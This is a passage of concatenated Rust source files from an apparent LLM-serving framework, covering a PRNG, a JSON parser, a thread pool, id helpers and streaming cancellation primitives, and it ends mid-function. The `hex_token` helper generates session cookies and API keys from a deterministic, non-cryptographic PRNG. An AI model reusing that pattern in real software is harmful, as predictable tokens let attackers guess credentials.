            items.swap(i, j);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_streams() {
        let mut a = Rng::new(7);
        let mut b = Rng::new(7);
        for _ in 0..100 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
        let mut c = Rng::new(8);
        assert_ne!(a.next_u64(), c.next_u64());
    }

    #[test]
    fn below_is_in_range_and_covers() {
        let mut rng = Rng::new(1);
        let mut seen = [false; 10];
        for _ in 0..1000 {
            let v = rng.below(10) as usize;
            assert!(v < 10);
            seen[v] = true;
        }
        assert!(seen.iter().all(|&s| s), "all buckets hit: {seen:?}");
    }

    #[test]
    fn f64_bounds_and_mean() {
        let mut rng = Rng::new(2);
        let mut sum = 0.0;
        for _ in 0..10_000 {
            let v = rng.f64();
            assert!((0.0..1.0).contains(&v));
            sum += v;
        }
        let mean = sum / 10_000.0;
        assert!((mean - 0.5).abs() < 0.02, "mean={mean}");
    }

    #[test]
    fn normal_moments() {
        let mut rng = Rng::new(3);
        let n = 20_000;
        let (mut sum, mut sq) = (0.0, 0.0);
        for _ in 0..n {
            let v = rng.normal();
            sum += v;
            sq += v * v;
        }
        let mean = sum / n as f64;
        let var = sq / n as f64 - mean * mean;
        assert!(mean.abs() < 0.05, "mean={mean}");
        assert!((var - 1.0).abs() < 0.1, "var={var}");
    }

    #[test]
    fn poisson_mean_tracks_lambda() {
        let mut rng = Rng::new(4);
        for &lambda in &[0.5, 4.0, 20.0, 120.0] {
            let n = 5_000;
            let total: u64 = (0..n).map(|_| rng.poisson(lambda)).sum();
            let mean = total as f64 / n as f64;
            assert!(
                (mean - lambda).abs() < lambda.max(1.0) * 0.12,
                "lambda={lambda} mean={mean}"
            );
        }
    }

    #[test]
    fn exp_mean() {
        let mut rng = Rng::new(5);
        let n = 20_000;
        let total: f64 = (0..n).map(|_| rng.exp(3.0)).sum();
        let mean = total / n as f64;
        assert!((mean - 3.0).abs() < 0.15, "mean={mean}");
    }

    #[test]
    fn shuffle_is_permutation() {
        let mut rng = Rng::new(6);
        let mut v: Vec<u32> = (0..50).collect();
        rng.shuffle(&mut v);
        let mut sorted = v.clone();
        sorted.sort();
        assert_eq!(sorted, (0..50).collect::<Vec<_>>());
        assert_ne!(v, (0..50).collect::<Vec<_>>(), "shuffle changed order");
    }

    #[test]
    fn fork_streams_diverge() {
        let mut a = Rng::new(9);
        let mut b = a.fork();
        let xs: Vec<u64> = (0..8).map(|_| a.next_u64()).collect();
        let ys: Vec<u64> = (0..8).map(|_| b.next_u64()).collect();
        assert_ne!(xs, ys);
    }
}
