//! Minimal JSON: a value model, a recursive-descent parser and a serializer.
//!
//! Covers the subset of JSON the service needs (OpenAI-compatible request /
//! response bodies, routing tables, config files, metrics snapshots):
//! objects, arrays, strings with escapes, f64 numbers, booleans, null.
//! Object key order is preserved (insertion order) so serialized payloads
//! are stable for golden tests.

use std::collections::BTreeMap;
use std::fmt;

/// A JSON value.
#[derive(Debug, Clone, PartialEq)]
pub enum Json {
    Null,
    Bool(bool),
    Num(f64),
    Str(String),
    Arr(Vec<Json>),
    /// Object with insertion-ordered keys.
    Obj(Vec<(String, Json)>),
}

impl Json {
    pub fn obj() -> Json {
        Json::Obj(Vec::new())
    }

    /// Builder-style insert; replaces an existing key.
    pub fn set(mut self, key: &str, value: impl Into<Json>) -> Json {
        if let Json::Obj(ref mut entries) = self {
            if let Some(e) = entries.iter_mut().find(|(k, _)| k == key) {
                e.1 = value.into();
            } else {
                entries.push((key.to_string(), value.into()));
            }
        }
        self
    }

    /// Object field lookup.
    pub fn get(&self, key: &str) -> Option<&Json> {
        match self {
            Json::Obj(entries) => entries.iter().find(|(k, _)| k == key).map(|(_, v)| v),
            _ => None,
        }
    }

    pub fn as_str(&self) -> Option<&str> {
        match self {
            Json::Str(s) => Some(s),
            _ => None,
        }
    }

    pub fn as_f64(&self) -> Option<f64> {
        match self {
            Json::Num(n) => Some(*n),
            _ => None,
        }
    }

    pub fn as_u64(&self) -> Option<u64> {
        self.as_f64().and_then(|n| {
            if n >= 0.0 && n.fract() == 0.0 && n <= u64::MAX as f64 {
                Some(n as u64)
            } else {
                None
            }
        })
    }

    pub fn as_i64(&self) -> Option<i64> {
        self.as_f64().and_then(|n| {
            if n.fract() == 0.0 && n >= i64::MIN as f64 && n <= i64::MAX as f64 {
                Some(n as i64)
            } else {
                None
            }
        })
    }

    pub fn as_bool(&self) -> Option<bool> {
        match self {
            Json::Bool(b) => Some(*b),
            _ => None,
        }
    }

    pub fn as_arr(&self) -> Option<&[Json]> {
        match self {
            Json::Arr(v) => Some(v),
            _ => None,
        }
    }

    /// Convenience: `get` + `as_str`.
    pub fn str_field(&self, key: &str) -> Option<&str> {
        self.get(key).and_then(Json::as_str)
    }

    pub fn u64_field(&self, key: &str) -> Option<u64> {
        self.get(key).and_then(Json::as_u64)
    }

    pub fn f64_field(&self, key: &str) -> Option<f64> {
        self.get(key).and_then(Json::as_f64)
    }

    pub fn bool_field(&self, key: &str) -> Option<bool> {
        self.get(key).and_then(Json::as_bool)
    }

    /// Serialize to a compact string.
    pub fn to_string(&self) -> String {
        let mut out = String::new();
        self.write(&mut out);
        out
    }

    fn write(&self, out: &mut String) {
        match self {
            Json::Null => out.push_str("null"),
            Json::Bool(true) => out.push_str("true"),
            Json::Bool(false) => out.push_str("false"),
            Json::Num(n) => {
                if n.fract() == 0.0 && n.abs() < 1e15 {
                    out.push_str(&format!("{}", *n as i64));
                } else {
                    out.push_str(&format!("{n}"));
                }
            }
            Json::Str(s) => write_escaped(s, out),
            Json::Arr(items) => {
                out.push('[');
                for (i, item) in items.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    item.write(out);
                }
                out.push(']');
            }
            Json::Obj(entries) => {
                out.push('{');
                for (i, (k, v)) in entries.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    write_escaped(k, out);
                    out.push(':');
                    v.write(out);
                }
                out.push('}');
            }
        }
    }
}

impl fmt::Display for Json {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.to_string())
    }
}

impl From<&str> for Json {
    fn from(s: &str) -> Json {
        Json::Str(s.to_string())
    }
}
impl From<String> for Json {
    fn from(s: String) -> Json {
        Json::Str(s)
    }
}
impl From<f64> for Json {
    fn from(n: f64) -> Json {
        Json::Num(n)
    }
}
impl From<u64> for Json {
    fn from(n: u64) -> Json {
        Json::Num(n as f64)
    }
}
impl From<u32> for Json {
    fn from(n: u32) -> Json {
        Json::Num(n as f64)
    }
}
impl From<i64> for Json {
    fn from(n: i64) -> Json {
        Json::Num(n as f64)
    }
}
impl From<usize> for Json {
    fn from(n: usize) -> Json {
        Json::Num(n as f64)
    }
}
impl From<bool> for Json {
    fn from(b: bool) -> Json {
        Json::Bool(b)
    }
}
impl From<Vec<Json>> for Json {
    fn from(v: Vec<Json>) -> Json {
        Json::Arr(v)
    }
}
impl<V: Into<Json> + Clone> From<&[V]> for Json {
    fn from(v: &[V]) -> Json {
        Json::Arr(v.iter().cloned().map(Into::into).collect())
    }
}
impl From<BTreeMap<String, Json>> for Json {
    fn from(m: BTreeMap<String, Json>) -> Json {
        Json::Obj(m.into_iter().collect())
    }
}

fn write_escaped(s: &str, out: &mut String) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
}

/// JSON parse error with byte offset.
#[derive(Debug, thiserror::Error)]
#[error("json parse error at byte {offset}: {message}")]
pub struct JsonError {
    pub offset: usize,
    pub message: String,
}

/// Parse a JSON document. Trailing whitespace is allowed; trailing garbage is
/// an error.
pub fn parse(input: &str) -> Result<Json, JsonError> {
    let mut p = Parser {
        bytes: input.as_bytes(),
        pos: 0,
        depth: 0,
    };
    p.skip_ws();
    let v = p.value()?;
    p.skip_ws();
    if p.pos != p.bytes.len() {
        return Err(p.err("trailing characters after document"));
    }
    Ok(v)
}

const MAX_DEPTH: usize = 128;

struct Parser<'a> {
    bytes: &'a [u8],
    pos: usize,
    depth: usize,
}

impl<'a> Parser<'a> {
    fn err(&self, message: &str) -> JsonError {
        JsonError {
            offset: self.pos,
            message: message.to_string(),
        }
    }

    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.pos).copied()
    }

    fn skip_ws(&mut self) {
        while matches!(self.peek(), Some(b' ' | b'\t' | b'\n' | b'\r')) {
            self.pos += 1;
        }
    }

    fn expect(&mut self, b: u8) -> Result<(), JsonError> {
        if self.peek() == Some(b) {
            self.pos += 1;
            Ok(())
        } else {
            Err(self.err(&format!("expected '{}'", b as char)))
        }
    }

    fn value(&mut self) -> Result<Json, JsonError> {
        if self.depth >= MAX_DEPTH {
            return Err(self.err("document too deeply nested"));
        }
        match self.peek() {
            Some(b'{') => self.object(),
            Some(b'[') => self.array(),
            Some(b'"') => Ok(Json::Str(self.string()?)),
            Some(b't') => self.literal("true", Json::Bool(true)),
            Some(b'f') => self.literal("false", Json::Bool(false)),
            Some(b'n') => self.literal("null", Json::Null),
            Some(b'-' | b'0'..=b'9') => self.number(),
            Some(_) => Err(self.err("unexpected character")),
            None => Err(self.err("unexpected end of input")),
        }
    }

    fn literal(&mut self, text: &str, value: Json) -> Result<Json, JsonError> {
        if self.bytes[self.pos..].starts_with(text.as_bytes()) {
            self.pos += text.len();
            Ok(value)
        } else {
            Err(self.err(&format!("invalid literal (expected {text})")))
        }
    }

    fn object(&mut self) -> Result<Json, JsonError> {
        self.expect(b'{')?;
        self.depth += 1;
        let mut entries = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b'}') {
            self.pos += 1;
            self.depth -= 1;
            return Ok(Json::Obj(entries));
        }
        loop {
            self.skip_ws();
            let key = self.string()?;
            self.skip_ws();
            self.expect(b':')?;
            self.skip_ws();
            let value = self.value()?;
            entries.push((key, value));
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b'}') => {
                    self.pos += 1;
                    self.depth -= 1;
                    return Ok(Json::Obj(entries));
                }
                _ => return Err(self.err("expected ',' or '}'")),
            }
        }
    }

    fn array(&mut self) -> Result<Json, JsonError> {
        self.expect(b'[')?;
        self.depth += 1;
        let mut items = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b']') {
            self.pos += 1;
            self.depth -= 1;
            return Ok(Json::Arr(items));
        }
        loop {
            self.skip_ws();
            items.push(self.value()?);
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b']') => {
                    self.pos += 1;
                    self.depth -= 1;
                    return Ok(Json::Arr(items));
                }
                _ => return Err(self.err("expected ',' or ']'")),
            }
        }
    }

    fn string(&mut self) -> Result<String, JsonError> {
        self.expect(b'"')?;
        let mut out = String::new();
        loop {
            match self.peek() {
                None => return Err(self.err("unterminated string")),
                Some(b'"') => {
                    self.pos += 1;
                    return Ok(out);
                }
                Some(b'\\') => {
                    self.pos += 1;
                    match self.peek() {
                        Some(b'"') => out.push('"'),
                        Some(b'\\') => out.push('\\'),
                        Some(b'/') => out.push('/'),
                        Some(b'b') => out.push('\u{0008}'),
                        Some(b'f') => out.push('\u{000c}'),
                        Some(b'n') => out.push('\n'),
                        Some(b'r') => out.push('\r'),
                        Some(b't') => out.push('\t'),
                        Some(b'u') => {
                            self.pos += 1;
                            let cp = self.hex4()?;
                            // Surrogate pair handling.
                            let c = if (0xD800..0xDC00).contains(&cp) {
                                if self.bytes[self.pos..].starts_with(b"\\u") {
                                    self.pos += 2;
                                    let low = self.hex4()?;
                                    if !(0xDC00..0xE000).contains(&low) {
                                        return Err(self.err("invalid low surrogate"));
                                    }
                                    let combined =
                                        0x10000 + ((cp - 0xD800) << 10) + (low - 0xDC00);
                                    char::from_u32(combined)
                                        .ok_or_else(|| self.err("invalid surrogate pair"))?
                                } else {
                                    return Err(self.err("lone high surrogate"));
                                }
                            } else if (0xDC00..0xE000).contains(&cp) {
                                return Err(self.err("lone low surrogate"));
                            } else {
                                char::from_u32(cp).ok_or_else(|| self.err("invalid codepoint"))?
                            };
                            out.push(c);
                            continue; // hex4 already advanced pos
                        }
                        _ => return Err(self.err("invalid escape")),
                    }
                    self.pos += 1;
                }
                Some(b) if b < 0x20 => return Err(self.err("control character in string")),
                Some(_) => {
                    // Consume one UTF-8 scalar (input is a &str so this is valid).
                    let start = self.pos;
                    let mut end = start + 1;
                    while end < self.bytes.len() && self.bytes[end] & 0xC0 == 0x80 {
                        end += 1;
                    }
                    out.push_str(std::str::from_utf8(&self.bytes[start..end]).unwrap());
                    self.pos = end;
                }
            }
        }
    }

    fn hex4(&mut self) -> Result<u32, JsonError> {
        if self.pos + 4 > self.bytes.len() {
            return Err(self.err("truncated \\u escape"));
        }
        let hex = std::str::from_utf8(&self.bytes[self.pos..self.pos + 4])
            .map_err(|_| self.err("invalid \\u escape"))?;
        let cp = u32::from_str_radix(hex, 16).map_err(|_| self.err("invalid \\u escape"))?;
        self.pos += 4;
        Ok(cp)
    }

    fn number(&mut self) -> Result<Json, JsonError> {
        let start = self.pos;
        if self.peek() == Some(b'-') {
            self.pos += 1;
        }
        while matches!(self.peek(), Some(b'0'..=b'9')) {
            self.pos += 1;
        }
        if self.peek() == Some(b'.') {
            self.pos += 1;
            while matches!(self.peek(), Some(b'0'..=b'9')) {
                self.pos += 1;
            }
        }
        if matches!(self.peek(), Some(b'e' | b'E')) {
            self.pos += 1;
            if matches!(self.peek(), Some(b'+' | b'-')) {
                self.pos += 1;
            }
            while matches!(self.peek(), Some(b'0'..=b'9')) {
                self.pos += 1;
            }
        }
        let text = std::str::from_utf8(&self.bytes[start..self.pos]).unwrap();
        text.parse::<f64>()
            .map(Json::Num)
            .map_err(|_| self.err("invalid number"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parse_scalars() {
        assert_eq!(parse("null").unwrap(), Json::Null);
        assert_eq!(parse("true").unwrap(), Json::Bool(true));
        assert_eq!(parse("false").unwrap(), Json::Bool(false));
        assert_eq!(parse("42").unwrap(), Json::Num(42.0));
        assert_eq!(parse("-3.5e2").unwrap(), Json::Num(-350.0));
        assert_eq!(parse("\"hi\"").unwrap(), Json::Str("hi".into()));
    }

    #[test]
    fn parse_nested() {
        let doc = r#"{"model":"llama","messages":[{"role":"user","content":"hi"}],"n":1}"#;
        let v = parse(doc).unwrap();
        assert_eq!(v.str_field("model"), Some("llama"));
        let msgs = v.get("messages").unwrap().as_arr().unwrap();
        assert_eq!(msgs[0].str_field("role"), Some("user"));
        assert_eq!(v.u64_field("n"), Some(1));
    }

    #[test]
    fn roundtrip_preserves_structure() {
        let doc = r#"{"a":[1,2,{"b":null}],"c":"x\ny","d":true}"#;
        let v = parse(doc).unwrap();
        let re = parse(&v.to_string()).unwrap();
        assert_eq!(v, re);
    }

    #[test]
    fn escapes_roundtrip() {
        let v = Json::Str("line1\nline2\t\"quoted\" \\ \u{1}".into());
        let parsed = parse(&v.to_string()).unwrap();
        assert_eq!(parsed, v);
    }

    #[test]
    fn unicode_escapes() {
        assert_eq!(parse(r#""é""#).unwrap(), Json::Str("é".into()));
        // surrogate pair for 😀 U+1F600
        assert_eq!(parse(r#""😀""#).unwrap(), Json::Str("😀".into()));
        assert!(parse(r#""\ud83d""#).is_err());
    }

    #[test]
    fn rejects_garbage() {
        assert!(parse("").is_err());
        assert!(parse("{").is_err());
        assert!(parse("[1,]").is_err());
        assert!(parse("{\"a\":1,}").is_err());
        assert!(parse("12 34").is_err());
        assert!(parse("{'a':1}").is_err());
    }

    #[test]
    fn rejects_deep_nesting() {
        let doc = "[".repeat(1000) + &"]".repeat(1000);
        assert!(parse(&doc).is_err());
    }

    #[test]
    fn builder_set_get() {
        let v = Json::obj()
            .set("model", "qwen2-72b")
            .set("stream", true)
            .set("max_tokens", 128u64);
        assert_eq!(v.str_field("model"), Some("qwen2-72b"));
        assert_eq!(v.bool_field("stream"), Some(true));
        assert_eq!(v.u64_field("max_tokens"), Some(128));
        // overwrite
        let v = v.set("model", "llama3-70b");
        assert_eq!(v.str_field("model"), Some("llama3-70b"));
    }

    #[test]
    fn integers_serialize_without_fraction() {
        assert_eq!(Json::Num(5.0).to_string(), "5");
        assert_eq!(Json::Num(5.5).to_string(), "5.5");
    }
}
