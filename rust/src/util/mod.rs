//! Shared substrate: the pieces a production service framework gets from
//! crates.io, built in-repo (the vendored offline registry only carries the
//! `xla` closure).
//!
//! * [`json`] — minimal JSON value model, parser and serializer.
//! * [`http`] — HTTP/1.1 server + client over `std::net`, keep-alive,
//!   chunked transfer and SSE streaming.
//! * [`rng`] — deterministic splitmix/xoshiro PRNG (no `rand`).
//! * [`clock`] — real + virtual clocks so the Slurm/adoption simulations can
//!   run in discrete-event time while the serving path uses wall time.
//! * [`hist`] — HDR-style latency histogram and streaming summaries.
//! * [`threadpool`] — fixed worker pool with graceful shutdown.
//! * [`logging`] — tiny `log` backend writing to stderr.
//! * [`propcheck`] — mini property-based testing framework (generators,
//!   shrinking-lite, seeded cases) used by the invariant test suites.
//! * [`id`] — monotonic id generation helpers.
//! * [`streaming`] — cancellation tokens, stall policy and per-stream
//!   metrics for the end-to-end SSE pipeline.
//! * [`fairness`] — token-weighted deficit round-robin over per-tenant
//!   queues, priority classes and SLO-aware admission control.
//! * [`trace`] — end-to-end request tracing: per-hop spans and TTFT
//!   attribution keyed by a gateway-minted trace ID.

pub mod clock;
pub mod fairness;
pub mod hist;
pub mod http;
pub mod id;
pub mod json;
pub mod logging;
pub mod propcheck;
pub mod rng;
pub mod streaming;
pub mod threadpool;
pub mod trace;
