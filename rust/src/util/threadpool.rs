//! Fixed-size worker pool with graceful shutdown.
//!
//! Stands in for tokio: HTTP servers hand accepted connections to a pool,
//! the LLM engine runs its batching loop on a dedicated thread, and the
//! load generator fans out client workers.

use std::sync::mpsc;
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;

type Job = Box<dyn FnOnce() + Send + 'static>;

enum Message {
    Run(Job),
    Shutdown,
}

/// A pool of worker threads consuming a shared queue.
pub struct ThreadPool {
    sender: mpsc::Sender<Message>,
    workers: Vec<JoinHandle<()>>,
}

impl ThreadPool {
    /// Spawn `size` workers named `{name}-{i}`.
    pub fn new(name: &str, size: usize) -> ThreadPool {
        assert!(size > 0);
        let (sender, receiver) = mpsc::channel::<Message>();
        let receiver = Arc::new(Mutex::new(receiver));
        let workers = (0..size)
            .map(|i| {
                let receiver = Arc::clone(&receiver);
                std::thread::Builder::new()
                    .name(format!("{name}-{i}"))
                    .spawn(move || loop {
                        let msg = {
                            let guard = receiver.lock().unwrap();
                            guard.recv()
                        };
                        match msg {
                            Ok(Message::Run(job)) => job(),
                            Ok(Message::Shutdown) | Err(_) => break,
                        }
                    })
                    .expect("spawn worker")
            })
            .collect();
        ThreadPool { sender, workers }
    }

    /// Queue a job. Returns false if the pool is shutting down.
    pub fn execute<F: FnOnce() + Send + 'static>(&self, job: F) -> bool {
        self.sender.send(Message::Run(Box::new(job))).is_ok()
    }

    /// Signal all workers and join them.
    pub fn shutdown(mut self) {
        for _ in &self.workers {
            let _ = self.sender.send(Message::Shutdown);
        }
        for w in self.workers.drain(..) {
            let _ = w.join();
        }
    }
}

impl Drop for ThreadPool {
    fn drop(&mut self) {
        for _ in &self.workers {
            let _ = self.sender.send(Message::Shutdown);
        }
        for w in self.workers.drain(..) {
            let _ = w.join();
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::atomic::{AtomicUsize, Ordering};
    use std::time::Duration;

    #[test]
    fn runs_all_jobs() {
        let pool = ThreadPool::new("t", 4);
        let counter = Arc::new(AtomicUsize::new(0));
        for _ in 0..100 {
            let c = counter.clone();
            pool.execute(move || {
                c.fetch_add(1, Ordering::SeqCst);
            });
        }
        pool.shutdown();
        assert_eq!(counter.load(Ordering::SeqCst), 100);
    }

    #[test]
    fn parallelism_is_real() {
        let pool = ThreadPool::new("p", 4);
        let t0 = std::time::Instant::now();
        let done = Arc::new(AtomicUsize::new(0));
        for _ in 0..4 {
            let d = done.clone();
            pool.execute(move || {
                std::thread::sleep(Duration::from_millis(50));
                d.fetch_add(1, Ordering::SeqCst);
            });
        }
        pool.shutdown();
        let elapsed = t0.elapsed();
        assert_eq!(done.load(Ordering::SeqCst), 4);
        // 4 x 50ms serially would be 200ms; with 4 workers ~50ms.
        assert!(elapsed < Duration::from_millis(150), "elapsed={elapsed:?}");
    }

    #[test]
    fn drop_joins_workers() {
        let counter = Arc::new(AtomicUsize::new(0));
        {
            let pool = ThreadPool::new("d", 2);
            for _ in 0..10 {
                let c = counter.clone();
                pool.execute(move || {
                    c.fetch_add(1, Ordering::SeqCst);
                });
            }
            // drop without explicit shutdown
        }
        assert_eq!(counter.load(Ordering::SeqCst), 10);
    }
}
