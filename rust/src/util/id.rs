//! Monotonic id generation (job ids, request ids, session tokens).

use std::sync::atomic::{AtomicU64, Ordering};

/// Thread-safe monotonic counter starting at 1.
pub struct IdGen {
    next: AtomicU64,
}

impl IdGen {
    pub const fn new() -> IdGen {
        IdGen {
            next: AtomicU64::new(1),
        }
    }

    pub fn next(&self) -> u64 {
        self.next.fetch_add(1, Ordering::Relaxed)
    }
}

impl Default for IdGen {
    fn default() -> Self {
        Self::new()
    }
}

/// Opaque hex token of `2*nbytes` chars from the given rng stream (session
/// cookies, API keys, request ids).
pub fn hex_token(rng: &mut crate::util::rng::Rng, nbytes: usize) -> String {
    let mut out = String::with_capacity(nbytes * 2);
    for _ in 0..nbytes.div_ceil(8) {
        let v = rng.next_u64();
        for b in v.to_le_bytes() {
            out.push_str(&format!("{b:02x}"));
        }
    }
    out.truncate(nbytes * 2);
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::util::rng::Rng;

    #[test]
    fn idgen_monotonic_unique() {
        let g = IdGen::new();
        let a = g.next();
        let b = g.next();
        let c = g.next();
        assert!(a < b && b < c);
    }

    #[test]
    fn idgen_concurrent_unique() {
        use std::sync::Arc;
        let g = Arc::new(IdGen::new());
        let mut handles = Vec::new();
        for _ in 0..8 {
            let g = g.clone();
            handles.push(std::thread::spawn(move || {
                (0..1000).map(|_| g.next()).collect::<Vec<_>>()
            }));
        }
        let mut all: Vec<u64> = handles
            .into_iter()
            .flat_map(|h| h.join().unwrap())
            .collect();
        all.sort();
        let len = all.len();
        all.dedup();
        assert_eq!(all.len(), len, "ids must be unique");
    }

    #[test]
    fn hex_token_shape() {
        let mut rng = Rng::new(42);
        let t = hex_token(&mut rng, 16);
        assert_eq!(t.len(), 32);
        assert!(t.chars().all(|c| c.is_ascii_hexdigit()));
        let t2 = hex_token(&mut rng, 16);
        assert_ne!(t, t2);
    }
}
