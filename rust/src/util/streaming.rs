//! First-class streaming primitives: cancellation tokens, per-stream
//! handles, stall policy and stream metrics.
//!
//! The paper's whole product is a real-time token stream crossing four
//! hops (web VM → SSH circuit breaker → HPC proxy → inference worker).
//! A client that closes the tab must release its continuous-batching slot
//! and KV blocks *now*, not after `max_tokens` more decode steps — so a
//! [`CancelToken`] is minted at the gateway for every stream and each hop
//! propagates the disconnect one hop further down:
//!
//! ```text
//!  client ──X  gateway          write fails → token cancelled
//!             │ forwarder       sees token → drops upstream TCP conn
//!             ▼
//!           hpc proxy           write fails → token cancelled
//!             │ exec channel    sees token → sends SSH Cancel frame
//!             ▼
//!           cloud interface     ctx.cancel set → drops instance TCP conn
//!             │
//!             ▼
//!           llm server          write fails → token cancelled
//!             │
//!             ▼
//!           engine              evicts the sequence at the next decode
//!                               step, releases its KV blocks
//! ```
//!
//! Backpressure is per-stream: every hop forwards through a bounded
//! channel, so a slow client stalls only its own stream. Sustained stalls
//! are resolved by the [`StallPolicy`] — sever the stream (default) or
//! drop the backlog — never by blocking the shared decode loop.

use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use crate::util::hist::Histogram;

/// A cooperative cancellation flag shared across threads and hops.
///
/// Cheap to clone (one `Arc<AtomicBool>`); once cancelled it stays
/// cancelled. The write side of an HTTP stream cancels it when the client
/// disconnects; producers poll it and stop work.
#[derive(Clone, Default)]
pub struct CancelToken(Arc<AtomicBool>);

impl CancelToken {
    pub fn new() -> CancelToken {
        CancelToken::default()
    }

    pub fn cancel(&self) {
        self.0.store(true, Ordering::SeqCst);
    }

    pub fn is_cancelled(&self) -> bool {
        self.0.load(Ordering::SeqCst)
    }
}

impl std::fmt::Debug for CancelToken {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "CancelToken(cancelled={})", self.is_cancelled())
    }
}

/// What to do with a stream whose consumer has stalled past the budget.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum StallPolicy {
    /// Sever the stream and free its engine slot (the safe default: the
    /// client sees a clean hangup, capacity goes back to the batch).
    Disconnect,
    /// Drop the queued backlog and keep generating: the client keeps the
    /// connection but loses the dropped tokens (dashboards, best-effort
    /// consumers).
    Drop,
}

impl StallPolicy {
    pub fn parse(s: &str) -> Option<StallPolicy> {
        match s {
            "disconnect" => Some(StallPolicy::Disconnect),
            "drop" => Some(StallPolicy::Drop),
            _ => None,
        }
    }
}

/// Streaming tuning knobs (`[streaming]` config section).
#[derive(Debug, Clone)]
pub struct StreamingConfig {
    /// Per-stream chunk channel capacity at every hop (backpressure
    /// window: a slow client blocks only its own stream's producer once
    /// this many chunks are queued).
    pub chunk_buffer: usize,
    /// SSE comment heartbeat interval at the origin hop; keeps proxied
    /// connections alive through idle prefill phases.
    pub heartbeat: Duration,
    /// Policy once a consumer stalls past the budget below.
    pub stall_policy: StallPolicy,
    /// Write-side stall budget: a client that accepts no bytes for this
    /// long is treated as disconnected. Also the engine-side stall clock.
    pub stall_timeout: Duration,
    /// Engine-side backlog tolerated beyond the channel (tokens queued
    /// for a stalled stream before the stall policy applies).
    pub stall_buffer: usize,
    /// Propagate cancellation into the engine (ablation surface: off
    /// reproduces the pre-cancellation system where abandoned streams
    /// decode to `max_tokens`).
    pub cancellation: bool,
    /// Zero-copy relay fast path: interior hops forward raw chunk bytes in
    /// pool-recycled buffers with vectored, batched writes instead of
    /// allocating and copying per chunk (ablation surface: off reproduces
    /// the copy-per-hop token path).
    pub relay: bool,
    /// Origin-side token coalescing window: tokens arriving within this of
    /// each other ride one SSE chunk (`Duration::ZERO` = off). The first
    /// token of a stream and all terminal events flush immediately, so
    /// TTFT is unaffected — only steady-state inter-token delivery trades
    /// up to one window of latency for fewer chunks per hop.
    pub coalesce: Duration,
    /// Max tokens coalesced into one chunk before an early flush.
    pub coalesce_max_tokens: usize,
}

impl Default for StreamingConfig {
    fn default() -> StreamingConfig {
        StreamingConfig {
            chunk_buffer: 64,
            heartbeat: Duration::from_secs(15),
            stall_policy: StallPolicy::Disconnect,
            stall_timeout: Duration::from_secs(10),
            stall_buffer: 256,
            cancellation: true,
            relay: true,
            coalesce: Duration::ZERO,
            coalesce_max_tokens: 8,
        }
    }
}

/// Per-component stream counters, surfaced through `monitoring`.
#[derive(Default)]
pub struct StreamStats {
    pub streams_started: AtomicU64,
    pub streams_completed: AtomicU64,
    pub streams_cancelled: AtomicU64,
    pub upstream_errors: AtomicU64,
    /// Heartbeat comments emitted by this component's write side.
    pub heartbeats_sent: AtomicU64,
    /// Write-side disconnects observed (client went away mid-stream).
    pub client_disconnects: AtomicU64,
    pub bytes_streamed: AtomicU64,
    /// Bytes forwarded through the opaque relay path at this hop.
    pub bytes_forwarded: AtomicU64,
    /// Chunks merged into a multi-chunk write batch or SSH frame beyond
    /// the first of each batch (how often batching actually fires).
    pub frames_batched: AtomicU64,
    /// Streams that asked for relay but fell back to the buffered path
    /// (upstream answered with a non-chunked body).
    pub relay_fallbacks: AtomicU64,
    /// Streams the upstream cut without a terminal frame (walltime or
    /// preemption killed the instance mid-decode) for which this hop
    /// synthesized a terminal `event: error` so the client never hangs.
    pub terminal_errors_synthesized: AtomicU64,
    /// Time to first streamed byte, µs.
    pub ttft_us: Histogram,
    /// Per-stream delivery rate, milli-tokens/sec (origin hop only).
    pub tokens_per_sec_milli: Histogram,
}

impl StreamStats {
    pub fn new() -> Arc<StreamStats> {
        Arc::new(StreamStats::default())
    }

    /// Prometheus exposition lines, metric names prefixed with `prefix_`.
    pub fn prometheus_text(&self, prefix: &str) -> String {
        format!(
            "{prefix}_streams_started_total {}\n\
             {prefix}_streams_completed_total {}\n\
             {prefix}_streams_cancelled_total {}\n\
             {prefix}_stream_upstream_errors_total {}\n\
             {prefix}_stream_heartbeats_total {}\n\
             {prefix}_stream_client_disconnects_total {}\n\
             {prefix}_stream_bytes_total {}\n\
             {prefix}_stream_bytes_forwarded_total {}\n\
             {prefix}_stream_frames_batched_total {}\n\
             {prefix}_stream_relay_fallbacks_total {}\n\
             {prefix}_stream_terminal_errors_synthesized_total {}\n\
             {prefix}_stream_ttft_p50_us {}\n\
             {prefix}_stream_ttft_p99_us {}\n\
             {prefix}_stream_tokens_per_sec_p50_milli {}\n",
            self.streams_started.load(Ordering::Relaxed),
            self.streams_completed.load(Ordering::Relaxed),
            self.streams_cancelled.load(Ordering::Relaxed),
            self.upstream_errors.load(Ordering::Relaxed),
            self.heartbeats_sent.load(Ordering::Relaxed),
            self.client_disconnects.load(Ordering::Relaxed),
            self.bytes_streamed.load(Ordering::Relaxed),
            self.bytes_forwarded.load(Ordering::Relaxed),
            self.frames_batched.load(Ordering::Relaxed),
            self.relay_fallbacks.load(Ordering::Relaxed),
            self.terminal_errors_synthesized.load(Ordering::Relaxed),
